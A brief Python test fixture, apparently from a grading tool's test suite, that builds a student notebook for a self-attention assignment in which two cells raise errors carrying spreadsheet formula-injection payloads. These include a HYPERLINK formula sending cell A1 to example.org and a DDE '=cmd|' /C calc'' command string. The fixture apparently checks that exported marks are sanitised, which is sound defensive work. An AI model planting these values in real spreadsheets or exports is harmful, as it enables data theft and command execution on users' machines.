"""story: Raises errors that a spreadsheet takes for formulas, should marks be exported into one."""

import json
from pathlib import Path
from typing import Any

SAYS = r"HYPERLINK"
POINTS = 0.0
NAME = "02-self-attention"
SHOWN = '=HYPERLINK("https://example.org?"&A1,"9")\t=cmd|\' /C calc\'!A0\t@SUM(1+1)\t+1\t-1'


def hand_in(folder: Path, notebook: dict[str, Any], student: str) -> None:
    path = folder / student / NAME / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    for cell in notebook["cells"]:
        if cell["id"] in ("causal_mask", "attention_scores"):
            cell["source"] = f"def {cell['id']}(*args):\n    raise ValueError({SHOWN!r})\n"
    path.write_text(json.dumps(notebook))
